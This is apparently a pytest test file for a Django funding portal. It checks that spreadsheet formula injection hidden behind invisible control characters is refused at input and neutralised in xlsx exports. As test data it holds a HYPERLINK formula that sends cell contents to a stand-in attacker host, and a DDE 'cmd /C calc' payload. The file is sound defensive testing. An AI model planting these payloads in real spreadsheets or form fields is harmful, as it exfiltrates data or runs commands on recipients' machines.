"""Spreadsheet formula injection through invisible control characters.

``khuyencong.xlsx.neutralise`` puts a ``'`` in front of text starting with ``= + - @``, tab, CR or NUL,
and *then* drops the characters XML cannot hold (U+0001–U+0008, U+000B, U+000C, U+000E–U+001F). Text
such as ``"\\x01=HYPERLINK(…)"`` therefore passes the check and comes out as ``=HYPERLINK(…)``, which
openpyxl writes as a formula cell. No Vietnamese name, comment or number legitimately holds these
characters, so the portal's forms refuse them with a clear message and nothing is saved.
"""
import io
from datetime import date

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from funding.models import Disbursement
from projects.models import Comment, DeAn, Establishment
from tests.projects.factories import advance, content, ready_de_an

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://ke-gian.example/?d="&A1,"Bấm để xem")'
HIDDEN = "\x01" + FORMULA
MESSAGE = "ký tự điều khiển"


def _create_data(**overrides):
    data = {
        "name": "Đề án điểm ứng dụng máy sấy chè Tân Cương", "level": "kcqg", "kind": "diem", "plan_year": "2026",
        "start_date": "2026-03-01", "end_date": "2027-11-30", "location": "Xã Tân Yên",
        "contents": [str(content("1.2").pk), str(content("4.1").pk)],
        "ben-TOTAL_FORMS": "1", "ben-INITIAL_FORMS": "0", "ben-MIN_NUM_FORMS": "0", "ben-MAX_NUM_FORMS": "200",
        "line-TOTAL_FORMS": "1", "line-INITIAL_FORMS": "0", "line-MIN_NUM_FORMS": "0", "line-MAX_NUM_FORMS": "300",
        "ben-0-name": "Hợp tác xã Chè Tân Cương", "ben-0-legal_form": "cooperative", "ben-0-tax_code": "4600123456",
        "ben-0-commune": "Xã Tân Cương",
        "line-0-description": "Hỗ trợ máy sấy chè", "line-0-content": str(content("1.2").pk),
        "line-0-source": "national", "line-0-amount": "1.500.000",
    }
    data.update(overrides)
    return data


def _formula_cells(response):
    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    return [(cell.coordinate, cell.value) for ws in workbook.worksheets for row in ws.iter_rows() for cell in row
            if cell.data_type == "f"]


@pytest.mark.parametrize("field", ["name", "location", "ben-0-name", "ben-0-trade", "line-0-description", "rationale"])
def test_create_form_refuses_a_formula_hidden_behind_a_control_character(client, users, field):
    client.force_login(users.centre)
    before = (DeAn.objects.count(), Establishment.objects.count())
    response = client.post(reverse("projects:create"), _create_data(**{field: HIDDEN}))
    assert response.status_code == 400
    assert MESSAGE in response.content.decode()
    assert (DeAn.objects.count(), Establishment.objects.count()) == before
    # And the list export has no formula cell.
    assert _formula_cells(client.get(reverse("projects:export"))) == []


def test_a_visible_formula_is_kept_as_text_and_exported_as_text(client, users):
    """The ordinary case stays accepted: neutralise() turns it into text in the export."""
    client.force_login(users.centre)
    response = client.post(reverse("projects:create"), _create_data(name=FORMULA))
    assert response.status_code == 302
    export = client.get(reverse("projects:export"))
    assert _formula_cells(export) == []


def test_comment_with_a_hidden_formula_is_refused(client, users):
    de_an = ready_de_an(users.centre)
    client.force_login(users.centre)
    response = client.post(reverse("projects:comment", args=[de_an.pk]), {"text": HIDDEN}, follow=True)
    assert not Comment.objects.filter(de_an=de_an).exists()
    assert MESSAGE in response.content.decode()


def test_transition_comment_with_a_hidden_formula_is_refused(client, users):
    de_an = ready_de_an(users.centre)
    client.force_login(users.centre)
    response = client.post(reverse("projects:transition", args=[de_an.pk]),
                           {"action": "cancel", "comment": "\x02" + FORMULA})
    de_an.refresh_from_db()
    assert de_an.status == "draft"
    assert response.status_code == 400
    assert MESSAGE in response.content.decode()


def test_disbursement_document_number_with_a_hidden_formula_is_refused(client, users):
    de_an = advance(ready_de_an(users.centre), "in_implementation", users)
    client.force_login(users.province)
    response = client.post(reverse("funding:de_an_money", args=[de_an.pk]), {
        "kind": "advance", "amount": "10.000.000", "date": date(2026, 5, 4).strftime("%d/%m/%Y"),
        "document_number": "\x02" + FORMULA[:40], "note": "", "request_key": "a" * 32})
    assert response.status_code == 400
    assert not Disbursement.objects.filter(de_an=de_an).exists()
    assert MESSAGE in response.content.decode()


def test_ordinary_vietnamese_text_with_line_breaks_is_still_accepted(client, users):
    client.force_login(users.centre)
    response = client.post(reverse("projects:create"), _create_data(
        rationale="Dòng một: nâng cao năng suất.\r\nDòng hai:\tgiảm chi phí sấy chè.", **{"ben-0-trade": "Chế biến chè"}))
    assert response.status_code == 302
    assert DeAn.objects.get(name="Đề án điểm ứng dụng máy sấy chè Tân Cương").rationale.startswith("Dòng một")


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@"])  # tab and CR are stripped from names on save
def test_every_trigger_is_neutralised_in_the_list_and_commitment_exports(client, users, prefix):
    de_an = advance(ready_de_an(users.centre, name=prefix + "cmd|' /C calc'!A0"), "approved", users)
    client.force_login(users.province)
    workbooks = [client.get(reverse("projects:export")), client.get(reverse("funding:export_commitments") + "?nam=2026")]
    for response in workbooks:
        body = response.streaming_content if response.streaming else [response.content]
        workbook = load_workbook(io.BytesIO(b"".join(body)))
        names = [cell.value for ws in workbook.worksheets for row in ws.iter_rows() for cell in row
                 if isinstance(cell.value, str) and "calc" in cell.value]
        assert names, "the đề án is in the export"
        assert all(name.startswith("'") for name in names), names
        assert not [c for ws in workbook.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert de_an.status == "approved"


@pytest.mark.parametrize("hidden", ["\x01", "\x00", "\x1f", "\x0b\x0c", "\x08\x01"])
@pytest.mark.parametrize("formula", ['=HYPERLINK("http://evil","x")', "+1+1", "-2+3", "@SUM(A1)"])
def test_neutralise_drops_control_characters_before_checking_for_a_formula(hidden, formula):
    """Whatever route text takes (import, service call, admin), the export never writes a live formula."""
    from openpyxl import Workbook

    from khuyencong.xlsx import neutralise

    value = neutralise(hidden + formula)
    assert value == "'" + formula
    cell = Workbook().active.cell(1, 1, value)
    assert cell.data_type == "s" and cell.value == "'" + formula
